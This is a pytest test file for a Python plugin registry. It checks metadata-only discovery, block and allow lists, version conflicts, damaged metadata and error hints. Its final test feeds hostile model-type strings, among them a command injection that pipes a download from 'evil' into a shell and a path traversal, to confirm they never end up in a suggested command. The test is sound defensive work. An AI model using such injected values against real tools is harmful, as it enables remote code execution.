"""Plugins are discovered from metadata alone, whatever state the metadata is in."""

from __future__ import annotations

import importlib
import json
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from splitlearn_core import IncompatiblePluginError, PluginConflictError, SplitLearnError, UnknownModelTypeError
from splitlearn_core.plugins.registry import PluginStatus, registry, reset_registry

pytestmark = pytest.mark.light

HEAD = "from splitlearn_core import ModelFamily, hookimpl\n"


def rows(*, check: bool = False) -> dict[str, PluginStatus]:
    return {row.entry.model_type: row for row in registry().statuses(check=check)}


def test_listing_imports_no_plugin(world: Any) -> None:
    """Statuses and model types come from metadata."""
    for name in ("alpha", "beta"):
        world.install(name, world.marking(name) + world.source(name))

    statuses, model_types = rows(), registry().model_types()

    assert {"alpha", "beta"} <= statuses.keys()
    assert {"alpha", "beta"} <= set(model_types)
    assert [statuses[name].status for name in ("alpha", "beta")] == ["ready", "ready"]
    assert not world.marker("alpha").exists()
    assert not world.marker("beta").exists()


def test_using_a_type_imports_its_plugin_only(world: Any) -> None:
    """The name of the entry point decides; the other plugin is not imported."""
    for name in ("alpha", "beta"):
        world.install(name, world.marking(name) + world.source(name))

    family = registry().family("alpha")

    assert family.model_type == "alpha"
    assert world.marker("alpha").exists()
    assert not world.marker("beta").exists()


@pytest.mark.heavy
def test_using_a_checkpoint_imports_its_plugin_only(world: Any, single: Path) -> None:
    """A plan of a llama checkpoint imports the plugin named llama and no other."""
    from splitlearn_core import plan_split

    for name in ("llama", "beta"):
        world.install(name, world.marking(name) + world.source(name))

    plan = plan_split(single, (2, 4))

    assert plan.model_type == "llama"
    assert world.marker("llama").exists()
    assert not world.marker("beta").exists()


def test_a_plugin_below_a_package_is_not_imported_by_a_list(world: Any) -> None:
    """A dotted module is looked up without importing its parent package."""
    info = world.install("alpha")
    package = world.folder / "alpha_package"
    package.mkdir()
    (package / "__init__.py").write_text(world.marking("parent"))
    (package / "hooks.py").write_text(world.marking("child") + world.source("alpha"))
    (info / "entry_points.txt").write_text("[splitlearn.families]\nalpha = alpha_package.hooks\n")

    row = rows()["alpha"]

    assert (row.status, row.hooks) == ("ready", ("splitlearn_model_families",))
    assert not world.marker("parent").exists()
    assert registry().family("alpha").model_type == "alpha"
    assert world.marker("child").exists()


def test_two_claims_matter_only_when_the_type_is_used(world: Any) -> None:
    """Both distributions are named with their versions, and other types work."""
    world.install("alpha", distribution="one-alpha", version="1.1")
    world.install("alpha", distribution="two-alpha", version="2.2")
    world.install("beta")

    assert registry().family("beta").model_type == "beta"
    with pytest.raises(PluginConflictError) as caught:
        registry().family("alpha")

    assert "one-alpha 1.1" in caught.value.message
    assert "two-alpha 2.2" in caught.value.message
    assert "SPLITLEARN_DISABLE_PLUGINS=" in caught.value.hint
    assert [row.status for row in registry().statuses() if row.entry.model_type == "alpha"] == ["conflict"] * 2


@pytest.mark.parametrize("name", ["one-alpha", "One_Alpha", "ONE.ALPHA", " one-alpha , nothing", "beta,one--alpha"])
def test_the_block_list_resolves_a_conflict(world: Any, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """A distribution is blocked by its name in any spelling that pip accepts."""
    world.install("alpha", world.source("alpha").replace("Llama", "One"), distribution="one-alpha")
    world.install("alpha", world.source("alpha").replace("Llama", "Two"), distribution="two-alpha")
    monkeypatch.setenv("SPLITLEARN_DISABLE_PLUGINS", name)

    assert registry().family("alpha").architecture == "TwoForCausalLM"


@pytest.mark.parametrize("name", ["one-alpha", "One_Alpha", " one-alpha ,"])
def test_the_allow_list_resolves_a_conflict(world: Any, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """Only the named distribution is left."""
    world.install("alpha", world.source("alpha").replace("Llama", "One"), distribution="one-alpha")
    world.install("alpha", world.source("alpha").replace("Llama", "Two"), distribution="two-alpha")
    monkeypatch.setenv("SPLITLEARN_PLUGINS", name)

    assert registry().family("alpha").architecture == "OneForCausalLM"
    assert registry().model_types() == ("alpha",)


@pytest.mark.parametrize(
    ("variable", "value", "left"),
    [
        ("SPLITLEARN_PLUGINS", "", []),
        ("SPLITLEARN_PLUGINS", " , ", []),
        ("SPLITLEARN_PLUGINS", "alpha", ["alpha"]),
        ("SPLITLEARN_PLUGINS", "ALPHA", ["alpha"]),
        ("SPLITLEARN_PLUGINS", "gemma9-text", ["gemma9_text"]),
        ("SPLITLEARN_PLUGINS", "alpha,gemma9_text", ["alpha", "gemma9_text"]),
        ("SPLITLEARN_DISABLE_PLUGINS", "", ["alpha", "gemma9_text"]),
        ("SPLITLEARN_DISABLE_PLUGINS", "alpha", ["gemma9_text"]),
        ("SPLITLEARN_DISABLE_PLUGINS", "Gemma9-Text,ALPHA", []),
        ("SPLITLEARN_DISABLE_PLUGINS", "splitlearn_alpha", ["gemma9_text"]),
    ],
)
def test_lists_by_model_type(
    world: Any, monkeypatch: pytest.MonkeyPatch, variable: str, value: str, left: list[str]
) -> None:
    """Allow and block lists take model types and distributions; an empty allow-list means none."""
    world.install("alpha")
    world.install("gemma9_text", distribution="splitlearn-gemma9")
    monkeypatch.setenv(variable, value)

    assert [name for name in registry().model_types() if name in ("alpha", "gemma9_text")] == left


def test_a_blocked_type_says_what_blocks_it(world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Using a blocked type is an UnknownModelTypeError that names the variable; the list shows it too."""
    world.install("alpha", world.marking("alpha") + world.source("alpha"))
    monkeypatch.setenv("SPLITLEARN_DISABLE_PLUGINS", "alpha")

    with pytest.raises(UnknownModelTypeError, match="SPLITLEARN_DISABLE_PLUGINS") as caught:
        registry().family("alpha")

    assert caught.value.hint
    assert rows(check=True)["alpha"].status == "blocked"
    assert not world.marker("alpha").exists()


def test_block_wins_over_allow(world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A plugin on both lists is blocked."""
    world.install("alpha")
    monkeypatch.setenv("SPLITLEARN_PLUGINS", "alpha")
    monkeypatch.setenv("SPLITLEARN_DISABLE_PLUGINS", "alpha")

    assert registry().model_types() == ()


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ({"plugin_api": "2"}, ["plugin API 2", "plugin API 1"]),
        ({"plugin_api": "0"}, ["plugin API 0"]),
        ({"plugin_api": "01"}, ["plugin API 01"]),
        ({"plugin_api": "²"}, ["plugin API ²"]),
        ({"plugin_api": "new"}, ["plugin API new"]),
        ({"requires": ">=99"}, ["splitlearn-core>=99"]),
        ({"requires": "<0.0.1"}, ["splitlearn-core<0.0.1"]),
        ({"requires": " (>=99)"}, ["splitlearn-core>=99"]),
        ({"requires": '>=99; python_version >= "3"'}, ["splitlearn-core>=99"]),
    ],
    ids=[
        "api 2",
        "api 0",
        "api with a zero",
        "api of a digit that is none",
        "api rubbish",
        "core 99",
        "core too new",
        "core in brackets",
        "core 99 with a true marker",
    ],
)
def test_an_incompatible_plugin_is_refused_before_import(world: Any, options: dict[str, str], named: list[str]) -> None:
    """The refusal needs only metadata: the message names both versions, the hint is a pip command."""
    world.install("alpha", world.marking("alpha") + world.source("alpha"), version="3.1.4", **options)
    world.install("beta")

    with pytest.raises(IncompatiblePluginError) as caught:
        registry().family("alpha")

    for text in ("splitlearn-alpha 3.1.4", *named):
        assert text in caught.value.message
    assert "pip install" in caught.value.hint
    assert rows(check=True)["alpha"].status == "incompatible"
    assert not world.marker("alpha").exists()
    assert registry().family("beta").model_type == "beta"


@pytest.mark.parametrize(
    "options",
    [
        {"plugin_api": "1"},
        {"requires": ">=0.0.1"},
        {"requires": ""},
        {"requires": "-extras>=99"},
        {"requires": '>=99; python_version < "3"'},
        {"requires": '>=99; extra == "future"'},
    ],
    ids=["api 1", "old enough", "nothing", "another distribution", "a marker that is false", "an extra"],
)
def test_a_compatible_plugin_is_used(world: Any, options: dict[str, str]) -> None:
    """A requirement that does not apply here, or is not about core, refuses nothing."""
    world.install("alpha", **options)

    assert registry().family("alpha").model_type == "alpha"


def test_every_requirement_of_core_counts(world: Any) -> None:
    """Two Requires-Dist lines about core must both be satisfied."""
    info = world.install("alpha", requires=">=0.0.1")
    with (info / "METADATA").open("a") as file:
        file.write("Requires-Dist: splitlearn-core<0.0.2\n")

    with pytest.raises(IncompatiblePluginError):
        registry().family("alpha")


def test_an_unknown_type_is_a_readable_key_error(world: Any) -> None:
    """The message lists the installed types; the hint has no command with a name that no table lists."""
    world.install("alpha")
    world.install("beta")

    with pytest.raises(KeyError) as caught:
        registry().family("falcon9")

    error = caught.value
    assert isinstance(error, UnknownModelTypeError)
    assert isinstance(error, SplitLearnError)
    assert "'falcon9'" in error.message
    assert "alpha, beta" in error.message
    assert "falcon9" not in error.hint
    assert error.hint.startswith("pip install splitlearn-auto, which finds out")
    assert str(error) == f"{error.message}\n{error.hint}"


def test_an_unknown_type_without_plugins(world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """With no plugin at all the list says none."""
    monkeypatch.setenv("SPLITLEARN_PLUGINS", "")

    with pytest.raises(UnknownModelTypeError, match=r"installed: none"):
        registry().family("falcon9")


@pytest.mark.parametrize(
    ("model_type", "package"),
    [("gemma2", "splitlearn-gemma"), ("gemma3_text", "splitlearn-gemma"), ("gpt2", "splitlearn-gpt2")],
)
def test_a_type_of_this_repository_names_its_package(
    world: Any, monkeypatch: pytest.MonkeyPatch, model_type: str, package: str
) -> None:
    """Without its plugin, a type that splitlearn has a package for names that package."""
    world.install("falcon9")

    from splitlearn_core.plugins.registry import PluginRegistry

    with pytest.raises(UnknownModelTypeError) as caught:
        PluginRegistry([]).family(model_type)

    assert f"pip install {package}," in caught.value.hint


def test_a_near_miss_is_suggested(world: Any) -> None:
    """A misspelt type names the type that is probably meant."""
    world.install("falcon9")

    with pytest.raises(UnknownModelTypeError, match="did you mean 'falcon9'"):
        registry().family("falkon9")


#: Ways in which metadata can be damaged; each is applied to the dist-info folder of one plugin.
DAMAGE: dict[str, Callable[[Path], object]] = {
    "no METADATA": lambda info: (info / "METADATA").unlink(),
    "empty METADATA": lambda info: (info / "METADATA").write_text(""),
    "METADATA without a version": lambda info: (info / "METADATA").write_text("Name: x\n"),
    "METADATA not in UTF-8": lambda info: (info / "METADATA").write_bytes(b"Name: \xff\xfe\nVersion: 1\n"),
    "no RECORD": lambda info: (info / "RECORD").unlink(),
    "malformed Requires-Dist": lambda info: (info / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: splitlearn-alpha\nVersion: 1.0\nRequires-Dist: splitlearn-core>=!!\n"
    ),
    "direct_url.json is no JSON": lambda info: (info / "direct_url.json").write_text("{"),
    "direct_url.json is a list": lambda info: (info / "direct_url.json").write_text("[1]"),
    "direct_url.json without url": lambda info: (info / "direct_url.json").write_text("{}"),
    "direct_url.json with odd dir_info": lambda info: (info / "direct_url.json").write_text(
        '{"url": 3, "dir_info": 4}'
    ),
    "direct_url.json with a malformed url": lambda info: (info / "direct_url.json").write_text(
        '{"url": "http://[::1", "dir_info": {}}'
    ),
    "direct_url.json not in UTF-8": lambda info: (info / "direct_url.json").write_bytes(b"\xff\xfe"),
    "entry point with spaces": lambda info: (info / "entry_points.txt").write_text(
        "[splitlearn.families]\nalpha = not a module!!\n"
    ),
    "entry point without a value": lambda info: (info / "entry_points.txt").write_text(
        "[splitlearn.families]\nalpha =\n"
    ),
    "entry point without a name": lambda info: (info / "entry_points.txt").write_text(
        "[splitlearn.families]\n= splitlearn_alpha\n"
    ),
    "entry point that starts with a dot": lambda info: (info / "entry_points.txt").write_text(
        "[splitlearn.families]\nalpha = .splitlearn_alpha\n"
    ),
    "entry point with empty parts": lambda info: (info / "entry_points.txt").write_text(
        "[splitlearn.families]\nalpha = splitlearn_alpha..\n"
    ),
    "entry point of an absent module": lambda info: (info / "entry_points.txt").write_text(
        "[splitlearn.families]\nalpha = surely_absent_package.hooks\n"
    ),
    "entry point line without =": lambda info: (info / "entry_points.txt").write_text(
        "[splitlearn.families]\nrubbish\n"
    ),
    "entry points without a section": lambda info: (info / "entry_points.txt").write_text("alpha = splitlearn_alpha\n"),
    "entry points not in UTF-8": lambda info: (info / "entry_points.txt").write_bytes(b"\xff\xfe\x00rubbish"),
    "entry points are empty": lambda info: (info / "entry_points.txt").write_text(""),
}


@pytest.mark.parametrize("damage", DAMAGE.values(), ids=list(DAMAGE))
def test_damaged_metadata_affects_only_its_plugin(world: Any, damage: Callable[[Path], object]) -> None:
    """The list and the other plugin work; using the damaged one raises a SplitLearnError, or works."""
    info = world.install("alpha")
    world.install("beta")
    damage(info)
    reset_registry()

    listed = rows(check=True)

    assert listed["beta"].status == "ready"
    assert registry().family("beta").model_type == "beta"
    with suppress(SplitLearnError):
        assert registry().family("alpha").model_type == "alpha"
    json.dumps([row.to_dict() for row in listed.values()])


#: Sources of plugins that work although their hooks are not plain decorated functions.
UNUSUAL = {
    "hookimpl under another name": (
        "from splitlearn_core import ModelFamily, hookimpl as mark\n\n@mark\ndef splitlearn_model_families():\n"
        "    return [ModelFamily(model_type='alpha', architecture='X')]\n"
    ),
    "through the package": (
        "import splitlearn_core as sl\n\n@sl.hookimpl\ndef splitlearn_model_families():\n"
        "    return [sl.ModelFamily(model_type='alpha', architecture='X')]\n"
    ),
    "with options": (
        HEAD + "@hookimpl(tryfirst=True)\ndef splitlearn_model_families():\n"
        "    return [ModelFamily(model_type='alpha', architecture='X')]\n"
    ),
    "defined under a condition": (
        HEAD + "if True:\n    @hookimpl\n    def splitlearn_model_families():\n"
        "        return [ModelFamily(model_type='alpha', architecture='X')]\n"
    ),
    "an optional dependency": (
        HEAD + "try:\n    import surely_absent_package\nexcept ImportError:\n    surely_absent_package = None\n"
        "@hookimpl\ndef splitlearn_model_families():\n"
        "    return [ModelFamily(model_type='alpha', architecture='X')]\n"
    ),
}


@pytest.mark.parametrize("source", UNUSUAL.values(), ids=list(UNUSUAL))
def test_a_plugin_that_works_is_not_listed_as_broken(world: Any, source: str) -> None:
    """A list does not report what only an import can show."""
    world.install("alpha", source)

    listed = rows()["alpha"]

    assert registry().family("alpha").model_type == "alpha"
    assert listed.status == "ready", listed.error
    assert rows(check=True)["alpha"].hooks == ("splitlearn_model_families",)


def test_an_object_that_works_is_not_listed_as_broken(world: Any) -> None:
    """An entry point ``module:object`` is usable, and the list says so."""
    source = HEAD + (
        "class Plugin:\n    @hookimpl\n    def splitlearn_model_families(self):\n"
        "        return [ModelFamily(model_type='alpha', architecture='X')]\nplugin = Plugin()\n"
    )
    info = world.install("alpha", source)
    (info / "entry_points.txt").write_text("[splitlearn.families]\nalpha = splitlearn_alpha:plugin\n")

    listed = rows()["alpha"]

    assert registry().family("alpha").model_type == "alpha"
    assert listed.status == "ready", listed.error


def test_a_list_finds_a_module_that_is_not_installed(world: Any) -> None:
    """The import system finds that alone; other problems appear when the plugin is imported."""
    info = world.install("alpha")
    (info / "entry_points.txt").write_text("[splitlearn.families]\nalpha = surely_absent_package.hooks\n")

    row = rows()["alpha"]

    assert (row.status, row.hooks) == ("broken", ())
    assert "module 'surely_absent_package' is not installed" in row.error
    assert "SPLITLEARN_DISABLE_PLUGINS=splitlearn-alpha" in row.hint


@pytest.mark.parametrize(
    ("source", "named"),
    [
        ("def broken(:\n", "SyntaxError"),
        ("import surely_absent_package\n", "pip install surely_absent_package"),
        ("raise RuntimeError('no')\n", "RuntimeError: no"),
        ("VALUE = 1\n", "implements no hook"),
        (
            "def splitlearn_model_families():\n    return []\n",
            "implements no hook; is splitlearn_model_families marked with @hookimpl?",
        ),
        (HEAD + "@hookimpl\ndef splitlearn_model_famlies():\n    return []\n", "did you mean"),
        (HEAD + "@hookimpl\ndef splitlearn_map_weight_keys(famly):\n    return {}\n", "famly"),
        (HEAD + "@hookimpl\ndef splitlearn_map_weight_keys(config=None):\n    return {}\n", "default"),
        (HEAD + "@hookimpl\ndef splitlearn_map_weight_keys(*, config=None):\n    return {}\n", "default"),
    ],
    ids=[
        "syntax error",
        "lacks a dependency",
        "raises",
        "no hook",
        "no mark",
        "misspelt hook",
        "wrong argument",
        "default",
        "keyword default",
    ],
)
def test_a_check_names_each_fault_with_its_fix(world: Any, source: str, named: str) -> None:
    """A list imports nothing and finds none of them; a check imports the plugin and finds all."""
    world.install("alpha", source if "def broken" in source else world.marking("alpha") + source)

    listed = rows()["alpha"]
    assert (listed.status, listed.hooks) == ("ready", ("splitlearn_model_families",))
    assert not world.marker("alpha").exists()

    checked = rows(check=True)["alpha"]
    assert (checked.status, checked.hooks) == ("broken", ())
    assert named in f"{checked.error}; {checked.hint}"
    assert "SPLITLEARN_DISABLE_PLUGINS=splitlearn-alpha" in checked.hint


@pytest.mark.parametrize(
    ("record", "origin", "expected"),
    [
        (None, "", "index"),
        ({"url": "file:///some/where", "dir_info": {"editable": True}}, "/some/where", "editable /some/where"),
        ({"url": "file:///with%20space", "dir_info": {}}, "/with space", "local /with space"),
        ({"url": "file:///d/x-1.0-py3-none-any.whl", "archive_info": {}}, "/d/x-1.0-py3-none-any.whl", "file x-1.0-"),
        ({"url": "file:///d/x-1.0.tar.gz", "archive_info": {}}, "/d/x-1.0.tar.gz", "file x-1.0.tar.gz"),
        ({"url": "https://example.org/x.whl", "archive_info": {}}, "https://example.org/x.whl", "https://example.org/"),
    ],
    ids=["index", "editable", "local", "wheel", "source archive", "url"],
)
def test_a_row_says_where_the_plugin_came_from(
    world: Any, cli: Any, record: dict[str, object] | None, origin: str, expected: str
) -> None:
    """The record of PEP 610 distinguishes editable checkouts, folders and files."""
    info = world.install("alpha")
    if record is not None:
        (info / "direct_url.json").write_text(json.dumps(record))

    entry = rows()["alpha"].entry
    code, out, _ = cli("plugins")

    assert (entry.origin, entry.editable) == (origin, expected.startswith("editable"))
    (line,) = (line for line in out.splitlines() if line.startswith("alpha "))
    assert code == 0
    assert f" ready   {expected}" in line


@pytest.mark.parametrize(
    ("record", "fix"),
    [
        (None, "pip install --upgrade splitlearn-alpha, or report it to its authors;"),
        ({"url": "file:///some/where", "dir_info": {"editable": True}}, "fix it in /some/where;"),
        ({"url": "file:///some/where", "dir_info": {}}, "fix it in the source of /some/where, and install it again;"),
        ({"url": "https://example.org/x", "vcs_info": {}}, "report it to its authors (https://example.org/x);"),
    ],
    ids=["index", "editable", "local", "url"],
)
def test_the_hint_says_where_to_fix_a_plugin(world: Any, record: dict[str, object] | None, fix: str) -> None:
    """The hint depends on how it was installed: fix a checkout, upgrade a package."""
    info = world.install("alpha", "raise RuntimeError('no')\n")
    if record is not None:
        (info / "direct_url.json").write_text(json.dumps(record))

    hint = rows(check=True)["alpha"].hint

    assert hint == f"{fix} or leave the plugin out: SPLITLEARN_DISABLE_PLUGINS=splitlearn-alpha"


@pytest.mark.parametrize(
    ("source", "reported"),
    [
        (
            "import surely_absent_package\nfrom splitlearn_core import Nonsense\n",
            "importing 'splitlearn_alpha' failed: ModuleNotFoundError: No module named 'surely_absent_package'",
        ),
        (
            "1 / 0\nimport surely_absent_package\n",
            "importing 'splitlearn_alpha' failed: ZeroDivisionError: division by zero",
        ),
    ],
    ids=["lacks a dependency", "fails before that"],
)
def test_a_check_reports_the_error_of_the_import(world: Any, source: str, reported: str) -> None:
    """Only the first error is reported."""
    world.install("alpha", source)

    checked = rows(check=True)["alpha"]

    assert checked.status == "broken"
    assert checked.error.endswith(reported)


def test_the_check_has_the_pip_command(world: Any) -> None:
    """A dependency that is missing at import has its command."""
    world.install("alpha", "import surely_absent_package\n")

    assert rows(check=True)["alpha"].hint.startswith("pip install surely_absent_package;")


def test_an_editable_plugin_of_another_core_is_not_to_be_upgraded(world: Any) -> None:
    """A package index has no newer version of a checkout."""
    info = world.install("alpha", requires=">=99")
    record = {"url": "file:///some/where", "dir_info": {"editable": True}}
    (info / "direct_url.json").write_text(json.dumps(record))

    row = rows()["alpha"]

    assert row.status == "incompatible"
    assert "change what /some/where requires" in row.hint
    assert "upgrade splitlearn-alpha" not in row.hint


def test_a_distribution_twice_on_the_path_counts_once(
    world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first copy on the path shadows the second, as it does for import; that is no conflict."""
    from splitlearn_core.testing.installing import write_plugin

    world.install("alpha", version="1.0")
    monkeypatch.syspath_prepend(str(write_plugin(tmp_path / "other", "alpha", world.source("alpha"), version="2.0")))
    reset_registry()

    assert rows()["alpha"].entry.version == "2.0"
    assert registry().family("alpha").model_type == "alpha"


def test_a_plugin_installed_later_is_found_after_a_reset(world: Any) -> None:
    """``reset_registry`` forgets the scan."""
    with pytest.raises(UnknownModelTypeError):
        registry().family("alpha")

    world.install("alpha")

    assert registry().family("alpha").model_type == "alpha"


def test_a_new_folder_is_found_after_a_reset(world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A plugin in a folder that was created after the first import is found and can be imported."""
    from splitlearn_core.testing.installing import write_plugin

    monkeypatch.syspath_prepend(str(tmp_path / "later"))
    with pytest.raises(UnknownModelTypeError):
        registry().family("alpha")
    with pytest.raises(ModuleNotFoundError):
        importlib.import_module("surely_absent_package")

    write_plugin(tmp_path / "later", "alpha", world.source("alpha"))
    reset_registry()

    assert registry().family("alpha").model_type == "alpha"


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "x\nhint: y", "../x", ""], ids=repr)
def test_a_hostile_model_type_makes_no_command(world: Any, name: str) -> None:
    """A value of config.json is shown quoted, and never within a command."""
    with pytest.raises(UnknownModelTypeError) as caught:
        registry().family(name)

    assert "pip" not in caught.value.hint
    assert repr(name) in caught.value.message
